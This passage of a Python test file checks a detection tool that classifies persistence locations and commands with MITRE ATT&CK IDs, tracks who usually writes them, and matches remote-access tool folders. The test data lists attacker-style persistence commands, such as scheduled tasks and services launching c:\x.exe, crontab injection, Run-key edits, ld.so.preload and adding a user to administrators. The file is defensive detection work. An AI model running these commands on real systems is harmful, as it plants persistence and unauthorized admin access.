        ("file", "/usr/lib/python3.11/site-packages/x.pth", "python_path", "T1546.018"),
        ("file", r"C:\Python311\Lib\site-packages\x.pth", "python_path", "T1546.018"),
        ("file", "/srv/u1/.bashrc", "shell_profile", "T1546.004"),
        ("file", "/etc/profile.d/x.sh", "shell_profile", "T1546.004"),
        ("file", "/srv/u1/.ssh/authorized_keys", "other", "T1098.004"),
        ("file", "/etc/ld.so.preload", "other", "T1574.006"),
        ("file", "/etc/udev/rules.d/99-x.rules", "other", "T1546.017"),
        ("file", "/usr/bin/x", "", ""),
        ("file", "/etc/x.conf", "", ""),
        ("file", "/usr/lib/python3.11/site-packages/x/__init__.py", "", ""),
        ("command", r"schtasks /create /tn x /tr c:\x.exe", "scheduled_task", "T1053.005"),
        ("command", r"schtasks /run /tn x", "", ""),
        ("command", r"c:\windows\system32\sc.exe create x binPath= c:\x.exe", "service", "T1543.003"),
        ("command", "sc start x", "", ""),
        ("command", "systemctl enable x.service", "systemd", "T1543.002"),
        ("command", "/usr/bin/systemctl --now enable x.service", "systemd", "T1543.002"),
        ("command", "systemctl daemon-reload", "", ""),
        ("command", "launchctl load -w /library/launchdaemons/x.plist", "launch_item", "T1543.001"),
        ("command", "launchctl bootstrap system /library/launchdaemons/x.plist", "launch_item", "T1543.001"),
        ("command", "sh -c '(crontab -l; echo x)|crontab -'", "cron", "T1053.003"),
        ("command", "crontab -l", "", ""),
        ("command", r"reg add hkcu\software\microsoft\windows\currentversion\run /v x", "registry_run", "T1547.001"),
        # the same text is nothing where it is not looked for
        ("registry", "/etc/cron.d/x", "", ""),
    ],
)  # fmt: skip
def test_what_stays(kind: str, target: str, evidence: str, mitre: str) -> None:
    keys = {"target_kind": kind, "target_pattern": words(target) if kind == "command" else target}
    assert found("package_persistence", "evidence", **keys) == (f"persistence_{evidence}" if evidence else "")
    assert found("package_persistence", "mitre", **keys) == mitre


@pytest.mark.parametrize(
    ("kind", "target", "usual"),
    [
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit", "nobody"),
        ("registry", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x", "anybody"),
        ("file", "/etc/ld.so.preload", "nobody"),
        ("file", "/home/u1/.bashrc", "user"),
        ("file", "/etc/profile.d/x.sh", "installer"),
        ("file", "/usr/lib64/security/pam_unix.so;65a1b2c3", "installer"),
        ("file", "/etc/cron.d/x", "package"),
        ("file", "/etc/init.d/x.dpkg-remove", "anybody"),
        ("file", "/etc/cron.d/x.rpmsave", "anybody"),
        ("file", "/etc/apt/apt.conf.d/20auto-upgrades", "anybody"),
        ("file", "/etc/apt/apt.conf.d/99x", "installer"),
        ("file", "/etc/systemd/system/multi-user.target.wants/x.service", "anybody"),
        ("file", "/usr/lib/python3.11/site-packages/pytest-cov.pth", "anybody"),
        ("command", "crontab -", "nobody"),
        ("command", "dscl . -create /Users/_agent", "anybody"),
        ("command", "dscl . -create /Users/eve", "nobody"),
        ("command", "systemctl enable x.service", "anybody"),
        ("command", r"mofcomp.exe C:\x.mof", "anybody"),
        ("command", r"netsh add helper C:\x.dll", "nobody"),
        ("command", "netsh advfirewall firewall add rule name=x", ""),
        ("command", "net localgroup administrators eve /add", "nobody"),
    ],
)
def test_who_puts_something_there_every_day(kind: str, target: str, usual: str) -> None:
    keys = {"target_kind": kind, "target_pattern": words(target) if kind == "command" else target}
    assert found("package_persistence", "usual", **keys) == usual


@pytest.mark.parametrize(
    ("name", "path", "tool"),
    [
        ("ninjarmmagentpatcher.exe", r"c:\program files (x86)\acme-5.9\ninjarmmagentpatcher.exe", "NinjaOne"),
        ("ncstreamer.exe", r"c:\programdata\ninjarmmagent\components\ncstreamer\ncstreamer.exe", "NinjaOne"),
        ("teamviewer", "/applications/teamviewer.app/contents/macos/teamviewer", "TeamViewer"),
        ("teamviewer", "/opt/teamviewer/tv_bin/teamviewer", "TeamViewer"),
        ("teamviewer", "/srv/teamviewer", ""),
        ("client32.exe", r"c:\programdata\x\client32.exe", ""),
    ],
)
def test_a_remote_access_tool_may_have_several_usual_folders(name: str, path: str, tool: str) -> None:
    assert found("package_remote_access_folders", "tool", process_name=name, usual_folder=path) == tool
